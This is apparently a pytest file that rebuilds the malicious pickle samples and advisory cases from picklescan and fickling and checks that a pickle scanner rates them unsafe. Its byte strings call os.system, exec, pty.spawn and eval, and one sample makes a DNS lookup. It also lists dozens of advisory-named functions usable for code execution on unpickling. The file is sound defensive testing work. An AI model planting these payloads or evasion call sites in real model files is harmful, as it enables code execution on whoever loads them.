"""The files that picklescan and fickling test themselves with, and those of their advisories, built as they build them."""

import functools
import importlib
import io
import pickle
import zipfile

import numpy as np
import pytest
from fickling.fickle import UNSAFE_IMPORTS, EmptyTuple, Global, Pickled, Proto, Reduce, ShortBinUnicode, StackGlobal, Stop, TupleOne
from test_pickles import RANKS, rank_of_fickling

# Advisory or file, then what its pickle calls. A name with a dot is found by a walk, which protocol 4 has.
NAMES = """
GHSA-4r9r-ch6f-vxmx torch.utils.bottleneck.__main__ run_cprofile
GHSA-4whj-rm5r-c2v8 torch.utils.bottleneck.__main__ run_autograd_prof
GHSA-86cj-95qr-2p4f torch._dynamo.guards GuardBuilder.get
GHSA-f4x7-rfwp-v3xw torch.fx.experimental.symbolic_shapes ShapeEnv.evaluate_guards_expression
GHSA-f745-w6jp-hpxx torch.utils.collect_env run
GHSA-jhph-76pp-mggw torch.utils.collect_env run_and_read_all
GHSA-h3qp-7fh3-f8h4 torch.utils.data.datapipes.utils.decoder basichandlers
GHSA-vr7h-p6mm-wpmh torch.jit.unsupported_tensor_ops execWrapper
GHSA-vv6j-3g6g-2pvj torch.utils._config_module ConfigModule.load_config
GHSA-5qwp-399c-mjwf trace Trace.run
GHSA-g344-hcph-8vgg trace Trace.runctx
GHSA-x696-vm39-cp64 profile Profile.run
GHSA-6vqj-c2q5-j97w profile Profile.runctx
GHSA-f54q-57x4-jg88 lib2to3.pgen2.grammar Grammar.loads
GHSA-p9w7-82w4-7q8m lib2to3.pgen2.pgen ParserGenerator.make_label
GHSA-3vg9-h568-4w9m idlelib.debugobj ObjectTreeItem.SetText
GHSA-6w4w-5w54-rjvr idlelib.autocomplete AutoComplete.get_entity
GHSA-7cq8-mj8x-j263 idlelib.autocomplete AutoComplete.fetch_completions
GHSA-8r4j-24qv-fmq9 idlelib.calltip Calltip.fetch_tip
GHSA-9xph-j2h6-g47v idlelib.calltip get_entity
GHSA-m869-42cg-3xwr idlelib.run Executive.runcode
GHSA-j343-8v2j-ff7w idlelib.pyshell ModifiedInterpreter.runcommand
GHSA-3gf5-cxq9-w223 idlelib.pyshell ModifiedInterpreter.runcode
GHSA-cj3c-v495-4xqh code InteractiveInterpreter.runcode
GHSA-xp4f-hrf8-rxw7 ensurepip _run_pip
GHSA-fqq6-7vqf-w3fg doctest debug_script
GHSA-9w88-8rmg-7g2p cProfile runctx
GHSA-49gj-c84q-6qm9 cProfile run
GHSA-q77w-mwjj-7mqx asyncio.unix_events _UnixSubprocessTransport._start
GHSA-m273-6v24-x4m4 distutils.file_util write_file
GHSA-4675-36f9-wf6r ctypes CDLL
GHSA-84r2-jw7c-4r5q pydoc locate
GHSA-vqmv-47xg-9wpr pty spawn
GHSA-r8g5-cgf2-4m4m numpy.f2py.crackfortran getlincoef
GHSA-955r-x9j8-7rhh _operator methodcaller
GHSA-46h3-79wf-xr6c _operator attrgetter
GHSA-vvpj-8cmc-gx39 pkgutil resolve_name
GHSA-g38g-8gr9-h9xp uuid _get_command_stdout
GHSA-g38g-8gr9-h9xp _osx_support _read_output
GHSA-g38g-8gr9-h9xp _aix_support _read_cmd_output
GHSA-g38g-8gr9-h9xp imaplib IMAP4_stream
GHSA-g38g-8gr9-h9xp _pyrepl.pager pipe_pager
GHSA-g38g-8gr9-h9xp test.support.script_helper assert_python_ok
io_FileIO _io FileIO
logging_FileHandler logging FileHandler
urllib_request_urlopen urllib.request urlopen
types_CodeType types CodeType
importlib_bypass importlib import_module
cloudpickle_codeinjection cloudpickle.cloudpickle _make_function
cloudpickle_codeinjection cloudpickle.cloudpickle _builtin_type
cloudpickle_codeinjection cloudpickle.cloudpickle subimport
malicious1 builtins eval
malicious2 posix system
malicious3 http.client HTTPSConnection
malicious4 requests.api get
malicious5 aiohttp.client ClientSession
malicious7 socket create_connection
malicious8 subprocess run
malicious9 sys exit
malicious13 _pickle loads
malicious14 runpy _run_code
malicious15 bdb Bdb.run
malicious16 pip main
malicious17 torch._inductor.codecache compile_file
malicious18 pydoc pipepager
malicious20 venv create
malicious21 timeit timeit
malicious22 numpy.testing._private.utils runstring
fickling:GHSA-565g-hwwr-4pp3 marshal loads
fickling:GHSA-565g-hwwr-4pp3 types FunctionType
fickling:GHSA-wfq2-52f7-7qvj runpy run_path
fickling:GHSA-q5qq-mvfm-j35x multiprocessing.util spawnv_passfds
fickling:GHSA-q5qq-mvfm-j35x code InteractiveInterpreter
fickling:GHSA-h4rm-mm56-xf63 builtins __import__
"""


class Call:
    """Pickled as a call of a function."""

    def __init__(self, function, *arguments):
        self._made = (function, arguments)

    def __reduce__(self):
        return self._made


def by_stack(module, name):
    """As fickling builds a call, whether the name is there or not."""
    opcodes = [Proto.create(4), ShortBinUnicode(module), ShortBinUnicode(name), StackGlobal(), ShortBinUnicode("x"), TupleOne(), Reduce(), Stop()]
    return Pickled(opcodes).dumps()


def found(module, name):
    """The function itself; nothing where this Python or a package has it no longer, or pickles no name for it."""
    try:
        function = functools.reduce(getattr, name.split("."), importlib.import_module(module))
        pickle.dumps(function)
        return function
    except (ImportError, AttributeError, SystemExit, pickle.PicklingError):
        return None


@pytest.mark.parametrize("line", NAMES.strip().splitlines())
def test_a_call_of_an_advisory_is_unsafe_in_every_protocol(judge, line):
    _, module, name = line.split()
    made = [by_stack(module, name)]
    # Pickled by Python itself; some of these modules open windows or do their work when they are imported.
    function = None if module.startswith(("idlelib", "torch._inductor")) else found(module, name)
    if function is not None:
        made += [pickle.dumps(Call(function, "x"), protocol=protocol) for protocol in range(6)]
    for content in made:
        assert judge.status("x.pkl", content) == "unsafe", content


@pytest.mark.parametrize("module", sorted(UNSAFE_IMPORTS))
def test_a_module_that_fickling_blocks_is_judged_as_severely(judge, module):
    content = by_stack(module, "anything")
    # Parts of these are harmless, and models have them, so their names are listed instead; or they are no modules.
    is_by_name = module in ("builtins", "__builtin__", "__builtins__", "functools", "types", "joblib", "compile", "eval", "exec")
    least = "suspicious" if is_by_name else "unsafe"
    assert rank_of_fickling(content) > RANKS["safe"]
    assert judge.status("x.pkl", content) == least


def archive(name, data):
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w") as made:
        made.writestr(name, data)
    return target.getvalue()


EVAL = pickle.dumps(Call(eval, "print('456')"), protocol=4)
SYSTEM = by_stack("os", "system")


def saved(write, *values, **named):
    target = io.BytesIO()
    write(target, *values, **named)
    return target.getvalue()


FILES = {
    # malicious0, of the talk "Sour pickles".
    "malicious0.pkl": b"c__builtin__\nglobals\n(tRp100\n0c__builtin__\ncompile\n(S'fl=1'\nS''\nS'exec'\ntRp101\n0c__builtin__\neval\n(g101\ng100\ntRp102\n"
    b"0c__builtin__\ngetattr\n(c__builtin__\ndict\nS'get'\ntRp103\n0c__builtin__\napply\n(g103\n(g100\nS'fl'\nltRp104\n0g104\n.",
    # malicious10: INST.
    "malicious10.pkl": b"(S'raise RuntimeError(\"x\")'\ni__builtin__\nexec\n.",
    # malicious11 and the one with bytes behind STOP: names that stand in the memo beside harmless ones.
    "malicious11.pkl": b"Vos\np2\n0Vsystem\np3\n0Vtorch\np0\n0VLongStorage\np1\n0g2\ng3\n\x93(Vcat flag.txt\ntR.",
    "malicious-invalid-bytes.pkl": b"Vos\np2\n0Vsystem\np3\n0Vtorch\np0\n0VLongStorage\np1\n0g2\ng3\n\x93(Vcat flag.txt\ntR.\n\n\t\t",
    # malicious23, GHSA-9gvj-pp9x-gcfr: operands by STRING.
    "malicious23.pkl": b"S'os'\nS'system'\n\x93S'ls'\n\x85R.",
    # A call, then a memo key that is not there, or a number where a name should be.
    "keyerror-exploit.pkl": b"\x80\x04cos\nsystem\nVid\n\x85R0\x8c\x02os\x94h\x03h\x00\x93KB.",
    "type-confusion-exploit.pkl": b"\x80\x04cos\nsystem\nVid\n\x85R0J\x2a\x00\x00\x00\x94\x8c\x02os\x94h\x00h\x01\x93KB.",
    # Breaks off within a text.
    "broken_model.pkl": b"cbuiltins\nexec\n(X>\x00\x00\x00f = open('my_file.txt', 'a'); f.write('Malicious'); f.close()tRX.",
    "malicious6.pkl": pickle.dumps(["a", "b", "c"]) + SYSTEM,
    # malicious19: a call of torch.load that partial makes.
    "malicious19.pkl": pickle.dumps(Call(functools.partial(found("torch", "load"), "other.bin", pickle_file="config.json"))),
    "malicious1.zip": archive("data.pkl", EVAL),
    "malicious1_wrong_ext.zip": archive("data.txt", EVAL),
    "malicious1_central_directory.zip": archive("data.pkl", EVAL).replace(b"data.pkl", b"datap.kl", 1),
    "malicious1_crc.zip": archive("data.pkl", EVAL).replace(b"print('456')", b"print('123')", 1),
    # GHSA-jgw4-cr84-mqxg: a pickle by the name of a torch file.
    "GHSA-jgw4-cr84-mqxg.bin": by_stack("asyncio.unix_events", "_UnixSubprocessTransport._start"),
    "dns_exfiltration.npy": saved(np.save, np.array([Call(found("ssl", "get_server_certificate"), ("x.invalid", 443))], dtype=object)),
    # fickling GHSA-r7v6-mfhq-g3m2 and pull 108: BUILD and OBJ keep the answer of the call in use.
    "pty-build.pkl": b"\x80\x04\x8c\x03pty\x94\x8c\x05spawn\x94\x93\x94\x8c\x02id\x94\x85\x94R\x94\x8c\x06gottem\x94b.",
    "pty-obj.pkl": b"(cpty\nspawn\nS'id'\no.",
    # fickling GHSA-h4rm-mm56-xf63: the answer becomes the state of an exception.
    "builtins-build.pkl": b"cbuiltins\n__import__\nVos\n\x85R0cbuiltins\nException\n)R}Vx\nK\x01sb.",
    "empty-call.pkl": Pickled([Global.create("code", "interact"), EmptyTuple(), Reduce(), Stop()]).dumps(),
}


@pytest.mark.parametrize("name", FILES)
def test_a_file_of_their_tests_is_unsafe(judge, name):
    assert judge.status(name, FILES[name]) == "unsafe"


OBJECTS = np.array([0, 1, 2], dtype=object)
HARMLESS = {
    **{f"benign0_v{protocol}.pkl": pickle.dumps(["a", "b", "c"], protocol=protocol) for protocol in (0, 3, 4)},
    # A picture by the name of a torch file.
    "bad_pytorch.pt": b"\x89PNG\r\n\x1a\n",
    "object_array.npy": saved(np.save, OBJECTS),
    "object_arrays.npz": saved(np.savez, a=OBJECTS, b=OBJECTS),
    "object_arrays_compressed.npz": saved(np.savez_compressed, a=OBJECTS, b=OBJECTS),
    "int_array.npy": saved(np.save, np.array([1, 2])),
    "int_arrays.npz": saved(np.savez, a=np.array([1]), b=np.array([2])),
    "int_arrays_compressed.npz": saved(np.savez_compressed, a=np.array([1]), b=np.array([2])),
}


@pytest.mark.parametrize("name", HARMLESS)
def test_a_harmless_file_of_their_tests_is_safe(judge, name):
    scan = judge.scan(name, HARMLESS[name])
    assert scan["status"] == "safe", scan


def test_a_7z_archive_is_not_called_safe(judge):
    # picklescan opens it; here it is not looked into, which is a finding.
    assert judge.status("malicious1.7z", b"7z\xbc\xaf\x27\x1c\x00\x04" + bytes(64)) == "suspicious"
